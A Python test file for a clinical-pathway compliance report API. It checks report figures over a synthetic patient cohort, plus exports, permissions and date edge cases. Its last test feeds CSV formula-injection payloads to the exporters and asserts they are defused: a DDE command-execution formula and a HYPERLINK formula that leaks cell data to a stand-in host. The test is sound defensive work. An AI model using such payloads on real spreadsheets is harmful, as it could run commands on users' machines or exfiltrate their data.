"""GET /api/reports/compliance over a synthetic cohort of a few hundred patient stories with known
outcomes, driven through the public API: every figure is checked exactly."""

from __future__ import annotations

import csv
import io
import json
import statistics
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

from lxml import etree

from carepath.api.compliance_files import misses_csv, report_csv
from carepath.engine.clock import ManualClock
from carepath.engine.usecases.reports import MeasureCompliance, Miss
from tests.support import diagrams as d
from tests.support.api import ApiClient

NY = ZoneInfo("America/New_York")
MEASURE = d.CALL_MEASURE
OUTCOMES = ("on_time_1d", "on_time_2d", "late", "not_reached", "never_done", "open", "cancelled")


@dataclass
class Story:
    n: int
    visit: date
    team: str
    outcome: str
    instance_id: str = ""
    task_id: str = ""

    @property
    def visit_start(self) -> datetime:
        return datetime.combine(self.visit, datetime.min.time(), tzinfo=NY)


def _cohort() -> list[Story]:
    stories = []
    for n in range(280):
        outcome = OUTCOMES[n % len(OUTCOMES)]
        visit = date(2026, 2, 19) if outcome == "open" else date(2026, 1, 5) + timedelta(days=n % 21)
        stories.append(Story(n, visit, "east" if n % 3 else "west", outcome))
    return stories


def _drive(api: ApiClient, clock: ManualClock) -> tuple[list[Story], str, str]:
    lead, admin = api.user("clinical_lead"), api.user("admin")
    coordinators = {"east": api.user("coordinator", "east", name="ana"),
                    "west": api.user("coordinator", "west", name="raj")}
    sidecar = json.dumps({"measures": [MEASURE]})
    assert api.deploy(lead, ("cohort.bpmn", d.team_call()), ("cohort.pathway.json", sidecar)).status_code == 201
    clock.set(datetime(2026, 1, 1, 12, tzinfo=UTC))
    stories = _cohort()
    for story in stories:
        started = api.start(lead, "cohort", patient_id=f"pat-{story.n}", business_key=f"enc-{story.n}",
                            data={"visit_date": story.visit.isoformat(), "team": story.team})
        assert started.status_code == 201, started.text
        story.instance_id, story.task_id = started.json()["id"], started.json()["open_tasks"][0]["id"]
    actions: list[tuple[datetime, Story]] = []
    for story in stories:
        days = {"on_time_1d": 1, "on_time_2d": 2, "late": 10, "not_reached": 1, "cancelled": 0}.get(story.outcome)
        if days is not None:
            actions.append((story.visit_start + timedelta(days=days, hours=10), story))
    for when, story in sorted(actions, key=lambda a: (a[0], a[1].n)):
        clock.set(when.astimezone(UTC))
        if story.outcome == "cancelled":
            cancelled = api.post(f"/api/instances/{story.instance_id}/cancel", admin, {"reason": "declined"})
            assert cancelled.status_code == 200
        else:
            data = {"reached": story.outcome != "not_reached"}
            done = api.post(f"/api/tasks/{story.task_id}/complete", coordinators[story.team], {"data": data})
            assert done.status_code == 200, done.text
    clock.set(datetime(2026, 2, 20, 12, tzinfo=UTC))
    return stories, admin, api.user("auditor")


def _expected(stories: list[Story]) -> dict[str, object]:
    met = [s for s in stories if s.outcome in ("on_time_1d", "on_time_2d")]
    missed = [s for s in stories if s.outcome in ("late", "not_reached", "never_done")]
    days = [1 + 10 / 24 if s.outcome == "on_time_1d" else 2 + 10 / 24 for s in met]
    return {"denominator": len(met) + len(missed), "met": len(met), "not_met": len(missed),
            "rate": round(len(met) / (len(met) + len(missed)), 4),
            "median_days_to_meet": round(statistics.median(days), 2),
            "open": sum(s.outcome == "open" for s in stories),
            "excluded": sum(s.outcome == "cancelled" for s in stories),
            "not_applicable": 0, "unknown": 0,
            "missed": {f"enc-{s.n}" for s in missed}}


def _figures(row: dict) -> dict[str, object]:
    keys = ("denominator", "met", "not_met", "rate", "median_days_to_meet", "open", "excluded", "not_applicable",
            "unknown")
    return {**{k: row[k] for k in keys}, "missed": {m["business_key"] for m in row["misses"]}}


def test_compliance_figures_over_a_cohort_of_stories(api: ApiClient, clock: ManualClock) -> None:
    stories, admin, auditor = _drive(api, clock)
    report = api.get("/api/reports/compliance", auditor, params={"pathway": "cohort"})
    assert report.status_code == 200, report.text
    [row] = report.json()["measures"]
    assert (row["pathway"], row["measure_id"]) == ("cohort", "call-2bd")
    assert _figures(row) == _expected(stories)
    holders = {m["business_key"]: m["held_by"] for m in row["misses"]}
    for story in stories:
        if story.outcome in ("late", "not_reached"):
            assert holders[f"enc-{story.n}"] == [{"east": "ana", "west": "raj"}[story.team]]
        elif story.outcome == "never_done":
            assert holders[f"enc-{story.n}"] == []  # nobody had picked it up
            assert "window closed" in next(m["detail"] for m in row["misses"] if m["business_key"] == f"enc-{story.n}")

    west = api.get("/api/reports/compliance", admin, params={"pathway": "cohort", "group": "west"}).json()
    assert _figures(west["measures"][0]) == _expected([s for s in stories if s.team == "west"])
    week = {"from": "2026-01-12T00:00:00-05:00", "to": "2026-01-19T00:00:00-05:00"}
    in_week = [s for s in stories if date(2026, 1, 12) <= s.visit < date(2026, 1, 19)]
    assert _figures(api.get("/api/reports/compliance", admin, params={"pathway": "cohort", **week}).json()
                    ["measures"][0]) == _expected(in_week)

    as_csv = api.get("/api/reports/compliance", auditor, params={"pathway": "cohort", "format": "csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    [line] = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert (int(line["met"]), int(line["not_met"]), float(line["rate"])) == (row["met"], row["not_met"], row["rate"])
    chart = api.get("/api/reports/compliance", auditor, params={"pathway": "cohort", "format": "svg"})
    bars = etree.fromstring(chart.content).iter("{http://www.w3.org/2000/svg}g")
    assert [g.get("data-measure-id") for g in bars] == ["call-2bd"]
    assert f"{row['met']} of {row['denominator']}" in chart.text


def test_reports_refuse_what_does_not_fit(api: ApiClient) -> None:
    auditor, coordinator = api.user("auditor"), api.user("coordinator", "east")
    assert api.get("/api/reports/compliance", coordinator).status_code == 403
    lead = api.user("clinical_lead")
    api.deploy(lead, ("plain.bpmn", d.linear_user_tasks("nothing-declared", "Call patient")))
    assert api.get("/api/reports/compliance", auditor, params={"pathway": "nothing-declared"}).json()["measures"] == []
    unknown = api.get("/api/reports/compliance", auditor, params={"pathway": "never-deployed"})
    assert unknown.status_code == 404 and "never-deployed" in unknown.json()["message"]
    naive = api.get("/api/reports/compliance", auditor, params={"from": "2026-01-01T00:00:00"})
    assert naive.status_code == 422 and "offset" in naive.json()["message"]
    backwards = api.get("/api/reports/compliance", auditor,
                        params={"from": "2026-02-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"})
    assert backwards.status_code == 422
    assert api.get("/api/reports/compliance", auditor, params={"format": "pdf"}).status_code == 422


def test_a_period_at_the_ends_of_the_calendar_is_answered(shipped: ApiClient) -> None:
    auditor = shipped.user("auditor")
    for params in ({"from": "0001-01-01T00:00:00Z"}, {"to": "9999-12-31T00:00:00Z"},
                   {"from": "0001-01-01T00:00:00Z", "to": "9999-12-31T00:00:00Z"}):
        response = shipped.get("/api/reports/compliance", auditor, params={"pathway": "transition-of-care", **params})
        assert response.status_code == 200, (params, response.text)
        assert {m["measure_id"] for m in response.json()["measures"]} == {
            "tcm-interactive-contact", "tcm-face-to-face-7", "tcm-face-to-face-14", "hedis-mrp"}


def test_csv_cells_a_spreadsheet_would_run_are_defused() -> None:
    row = MeasureCompliance("p", "m-1", "=cmd|' /C calc'!A0", "source")
    row.misses.append(Miss("i-1", "@SUM(1)", '=HYPERLINK("http://x/?"&A1)', None, "-2+3", ["+ana"], ["nurse"]))
    [line] = list(csv.DictReader(io.StringIO(misses_csv([row]))))
    assert (line["patient_id"], line["business_key"], line["detail"], line["held_by"]) == (
        "'@SUM(1)", "'=HYPERLINK(\"http://x/?\"&A1)", "'-2+3", "'+ana")
    assert line["offered_to"] == "nurse" and line["instance_id"] == "i-1"
    [summary] = list(csv.DictReader(io.StringIO(report_csv([row]))))
    assert summary["name"] == "'=cmd|' /C calc'!A0" and summary["denominator"] == "0"
